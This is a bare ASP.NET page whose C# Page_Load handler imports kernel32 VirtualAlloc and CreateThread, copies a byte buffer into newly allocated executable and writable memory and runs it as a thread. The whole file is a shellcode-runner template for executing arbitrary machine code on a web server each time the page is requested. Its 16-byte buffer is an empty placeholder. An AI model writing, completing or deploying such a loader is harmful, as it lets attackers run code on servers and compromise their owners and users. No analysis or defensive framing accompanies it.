<%@ Page Language="C#" %>
<%@ Import Namespace="System.Runtime.InteropServices" %>
<script runat="server">
[DllImport("kernel32")] static extern IntPtr VirtualAlloc(IntPtr a, uint s, uint t, uint p);
[DllImport("kernel32")] static extern IntPtr CreateThread(IntPtr a, uint s, IntPtr start, IntPtr p, uint f, IntPtr id);
protected void Page_Load(object sender, EventArgs e) {
    byte[] buf = new byte[16];
    IntPtr mem = VirtualAlloc(IntPtr.Zero, (uint)buf.Length, 0x3000, 0x40);
    Marshal.Copy(buf, 0, mem, buf.Length);
    CreateThread(IntPtr.Zero, 0, mem, IntPtr.Zero, 0, IntPtr.Zero);
}
</script>
